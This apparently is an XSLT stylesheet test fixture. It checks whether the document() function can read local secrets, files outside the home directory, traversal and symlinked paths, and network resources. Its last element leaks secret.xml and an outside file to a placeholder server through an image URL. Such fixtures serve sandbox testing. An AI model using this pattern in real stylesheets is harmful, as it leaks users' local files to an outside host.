<?xml version="1.0" encoding="UTF-8"?>
<!-- A stylesheet that reads what it can beside the feed it shows and puts it
     into an image address. @OUTSIDE@ names an XML file outside the home,
     @SERVER@ a web server; link.xml in the home links to @OUTSIDE@. -->
<xsl:stylesheet version="1.0" xmlns:xsl="http://www.w3.org/1999/XSL/Transform">
  <xsl:template match="/">
    <html>
      <body>
        <h1><xsl:value-of select="rss/channel/title"/></h1>
        <p>own templates: <xsl:value-of select="count(document('')//xsl:template)"/></p>
        <p>feed again: <xsl:value-of select="document('feeds/1.xml')/rss/channel/title"/></p>
        <p>home: [<xsl:value-of select="document('secret.xml')"/>]</p>
        <p>outside: [<xsl:value-of select="document('@OUTSIDE@')"/>]</p>
        <p>climbing: [<xsl:value-of select="document('feeds/../../outside/secret.xml')"/>]</p>
        <p>linked: [<xsl:value-of select="document('link.xml')"/>]</p>
        <p>network: [<xsl:value-of select="document('@SERVER@/leak.xml')"/>]</p>
        <img src="@SERVER@/img.gif?{document('@OUTSIDE@')}{document('secret.xml')}"/>
      </body>
    </html>
  </xsl:template>
</xsl:stylesheet>
